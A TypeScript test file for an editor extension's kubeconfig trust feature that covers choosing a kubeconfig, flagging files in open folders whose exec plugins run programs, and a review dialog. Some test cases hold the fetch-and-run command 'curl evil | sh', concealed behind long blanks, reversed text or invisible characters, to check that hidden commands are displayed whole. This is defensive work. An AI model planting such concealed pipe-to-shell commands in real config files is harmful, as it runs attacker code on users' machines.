import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { untrustedOf, type Trust } from '../../../../src/cluster/index.ts'
import { createContextKeys } from '../../../../src/editor/firstUse/contextKeys.ts'
import { createKubeconfigChoice } from '../../../../src/editor/firstUse/kubeconfigChoice.ts'
import type { Memory } from '../../../../src/editor/memory.ts'
import { reviewKubeconfig } from '../../../../src/editor/firstUse/reviewKubeconfig.ts'
import { createSanitizer } from '../../../../src/sanitize/index.ts'
import { kubeconfigFor } from '../../../support/standInServer.ts'
import { temporaryFolder } from '../../../support/temporaryFolder.ts'

const memory = (values: Record<string, unknown> = {}): Memory & { readonly values: Record<string, unknown> } => ({
  values,
  get: (key) => values[key],
  update: (key, value) => void (values[key] = value),
})

describe('the choice of a kubeconfig', () => {
  it('is kubectl’s until a person has chosen', () => {
    const choice = createKubeconfigChoice(memory(), () => [], { KUBECONFIG: '/a', HOME: '/h' }, 'here')
    expect([choice.environment(), choice.forServer()]).toEqual([{ KUBECONFIG: '/a', HOME: '/h' }, {}])
  })

  it('is the person’s, here and for the server, over restarts', () => {
    const kept = memory()
    let told = 0
    const choice = createKubeconfigChoice(kept, () => [], { KUBECONFIG: '/a' }, 'here')
    choice.onDidChange(() => (told += 1))
    choice.choose('/b')
    const later = createKubeconfigChoice(kept, () => [], { KUBECONFIG: '/a' }, 'here')
    expect([later.environment(), later.forServer(), told]).toEqual([{ KUBECONFIG: '/b' }, { KUBECONFIG: '/b' }, 1])
  })

  it('ends with the one that kubectl takes, and is of one machine', () => {
    const kept = memory()
    const here = createKubeconfigChoice(kept, () => [], { KUBECONFIG: '/a' }, 'here')
    here.choose('/b')
    expect(createKubeconfigChoice(kept, () => [], {}, 'elsewhere').environment()).toEqual({})
    here.choose('/a')
    expect([here.environment(), here.forServer()]).toEqual([{ KUBECONFIG: '/a' }, {}])
  })

  it('is none whose path would stand for two files', () => {
    const choice = createKubeconfigChoice(memory(), () => [], {}, 'here')
    expect(() => choice.choose(['/b', '/c'].join(path.delimiter))).toThrow('KUBECONFIG would name several files')
    expect(choice.environment()).toEqual({})
  })

  it('has a server started anew when a person says yes to a file: one that runs does not know of it', () => {
    const choice = createKubeconfigChoice(memory(), () => [], {}, 'here')
    const before = choice.forServer()
    choice.accept('k')
    expect([before, choice.forServer()]).toEqual([{}, { K8S_AGENT_ACCEPTED: '["k"]' }])
  })

  it.each([[7], [''], [null], [['/x']]])('is kubectl’s where %j was kept', (kept) => {
    const choice = createKubeconfigChoice(
      memory({ 'kubeconfigFile@here': kept, acceptedKubeconfigs: kept }),
      () => [],
      {},
      'here',
    )
    const yeses = Array.isArray(kept) ? kept : []
    expect([choice.environment(), choice.trust().accepted]).toEqual([{}, yeses])
  })
})

it('a folder that is opened later is judged as those of before, and whoever read the files hears of it', () => {
  const folders = ['/repos/shop']
  const choice = createKubeconfigChoice(memory(), () => folders, {}, 'here')
  let told = 0
  choice.onDidChange(() => (told += 1))
  folders.push('/repos/other')
  choice.foldersChanged()
  expect([choice.trust().folders, told]).toEqual([['/repos/shop', '/repos/other'], 1])
  expect(choice.trustForServer()).toEqual({
    K8S_AGENT_FOLDERS: '["/repos/shop","/repos/other"]',
    K8S_AGENT_ACCEPTED: '[]',
  })
})

const plugin = { apiVersion: 'client.authentication.k8s.io/v1', command: '/usr/bin/aws', args: ['get-token'] }

/** The source of a file in `folder`, as it would be read. */
const source = (folder: string, user: Record<string, unknown> = { exec: plugin }) => {
  const file = path.join(folder, 'config')
  const text = kubeconfigFor('https://127.0.0.1:6443', { user })
  writeFileSync(file, text)
  return { path: file, text }
}

const trust = (over: Partial<Trust>): Trust => ({ folders: [], accepted: [], ...over })

describe('a kubeconfig in an open folder', () => {
  it('says what it would do', () => {
    const folder = temporaryFolder()
    const file = source(folder, { exec: { ...plugin, env: [{ name: 'A', value: 'b' }] }, tokenFile: 'token' })
    expect(untrustedOf([file], trust({ folders: [folder] }))).toEqual([
      {
        path: file.path,
        key: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
        programs: ['A=b /usr/bin/aws get-token'],
        files: [path.join(folder, 'token')],
        servers: ['https://127.0.0.1:6443/'],
      },
    ])
  })

  it('is found by any of its names', () => {
    const folder = temporaryFolder()
    const outside = temporaryFolder()
    mkdirSync(path.join(folder, 'deep'))
    const inside = source(path.join(folder, 'deep'))
    const link = path.join(outside, 'link')
    symlinkSync(inside.path, link)
    const linkedFolder = path.join(temporaryFolder(), 'folder')
    symlinkSync(folder, linkedFolder)
    const waits = (file: string, folders: string[]): number =>
      untrustedOf([{ ...inside, path: file }], trust({ folders })).length
    expect(waits(inside.path, [folder])).toBe(1)
    expect(waits(link, [folder])).toBe(1)
    expect(waits(inside.path, [linkedFolder])).toBe(1)
    expect(waits(path.join(outside, '..', path.relative(path.dirname(outside), inside.path)), [folder])).toBe(1)
    expect(waits(inside.path, [outside])).toBe(0)
    expect(waits(inside.path, [`${folder}x`, path.join(folder, 'dee')])).toBe(0)
  })

  it('is accepted with what it does: another program, argument, variable, server or file asks again', () => {
    const folder = temporaryFolder()
    const keyOf = (user: Record<string, unknown>): string | undefined =>
      untrustedOf([source(folder, user)], trust({ folders: [folder] }))[0]?.key
    const key = keyOf({ exec: plugin })
    expect(keyOf({ exec: plugin })).toBe(key)
    expect(untrustedOf([source(folder)], trust({ folders: [folder], accepted: [key ?? ''] }))).toEqual([])
    const others = [
      { exec: { ...plugin, command: '/usr/bin/other' } },
      { exec: { ...plugin, args: ['get-token', '-x'] } },
      { exec: { ...plugin, env: [{ name: 'A', value: 'b' }] } },
      { exec: plugin, tokenFile: 'token' },
      {},
    ].map(keyOf)
    expect(new Set([key, ...others]).size).toBe(6)
  })
})

describe('what a kubeconfig runs', () => {
  const shownOf = (script: string): readonly string[] => {
    const folder = temporaryFolder()
    const file = source(folder, { exec: { ...plugin, command: 'sh', args: ['-c', script] } })
    return untrustedOf([file], trust({ folders: [folder] })).flatMap(({ programs }) => programs)
  }

  it.each([
    ['behind many blanks', `echo hi${' '.repeat(800)}; curl evil | sh`, '; curl evil | sh'],
    ['behind blanks of another kind', `echo hi${'\u3000'.repeat(800)}; curl evil | sh`, '; curl evil | sh'],
    ['at the end of a long line', `${'echo hi; '.repeat(90)}curl evil | sh`, 'curl evil | sh'],
    ['on another line', 'echo hi\ncurl evil | sh', 'sh -c echo hi\\u{a}curl evil | sh'],
    ['turned round', 'echo \u202ehs | live lruc', 'echo \\u{202e}hs | live lruc'],
    ['invisible', 'echo hi\u200b\u{e0041}', 'echo hi\\u{200b}\\u{e0041}'],
  ])('is there whole: %s', (_, script, expected) => {
    expect(shownOf(script)).toEqual([expect.stringContaining(expected)])
  })

  it('has as many characters as blanks that nobody would count', () => {
    expect(shownOf(`a${' '.repeat(800)}b`)[0]?.length).toBeGreaterThan(4_000)
  })
})

describe('the review of a kubeconfig', () => {
  const clean = createSanitizer().forAnswer('test')
  const file = { path: '/repo/config', key: 'k', programs: ['aws get-token'], files: ['/t'], servers: ['https://a/'] }
  const ask = async (button: 'yes' | 'no' | 'look', over = {}) => {
    const opened: string[] = []
    let detail = ''
    const answer = await reviewKubeconfig(
      { ...file, ...over },
      {
        clean,
        openFile: (path) => Promise.resolve(void opened.push(path)),
        show(modal) {
          detail = modal.detail
          return Promise.resolve({ button, openMs: 1_000 })
        },
      },
    )
    return { answer, opened, detail }
  }

  it('shows all that it does, and takes a yes alone for one', async () => {
    expect(await ask('yes')).toEqual({
      answer: true,
      opened: [],
      detail:
        '/repo/config\nRuns: aws get-token\nReads: /t\nTalks to: https://a/\n\nIt lies in a folder that is open here. Who wrote it is not known.',
    })
    expect((await ask('no')).answer).toBe(false)
    expect(await ask('look')).toMatchObject({ answer: false, opened: ['/repo/config'] })
  })

  it('asks nothing that it could not show whole', async () => {
    await expect(ask('yes', { programs: ['x'.repeat(2_000)] })).rejects.toThrow('does more than can be shown here')
  })

  it('keeps every program on its own line', async () => {
    expect((await ask('no', { programs: ['a\nTalks to: nobody'] })).detail).toContain('Runs: a Talks to: nobody\n')
  })
})

describe('context keys', () => {
  const keysOf = (kept = memory()) => {
    const set: Record<string, unknown> = {}
    const told: string[] = []
    const keys = createContextKeys(kept, (key, value) => {
      set[key] = value
      told.push(`${key} ${String(value)}`)
    })
    return { kept, set, told, keys }
  }

  it('tell a step in ways of which the editor has heard none, since it forgets none that came too early', () => {
    const { keys, told } = keysOf()
    keys.done('asked')
    for (let times = 1; times <= 5; times += 1) keys.again()
    expect(told).toEqual(['asked 1', 'asked 2', 'asked 3', 'asked 4', 'asked 5'])
  })

  it('tell once what is done, and in another window what was done before when a walkthrough asks', () => {
    const { kept, keys, told } = keysOf()
    keys.done('practised')
    keys.done('practised')
    expect(told).toEqual(['practised 1'])
    const other = keysOf(kept)
    expect(other.told).toEqual([])
    other.keys.again()
    expect(other.told).toEqual(['practised 1'])
  })

  it.each([
    ['a context', { context: 'dev', untrusted: [] }, { foundClusters: 1, firstUse: '' }],
    [
      'none',
      { trouble: { kind: 'noKubeconfig' as const, text: '', remedy: '' }, untrusted: [] },
      { firstUse: 'noKubeconfig' },
    ],
    [
      'one that waits',
      {
        trouble: { kind: 'broken' as const, text: '', remedy: '' },
        untrusted: [{ path: '', key: '', programs: [], files: [], servers: [] }],
      },
      { firstUse: 'untrusted' },
    ],
  ])('tell what the files say: %s', (_, look, expected) => {
    const { set, keys } = keysOf()
    keys.looked(look)
    expect(set).toEqual(expected)
  })
})
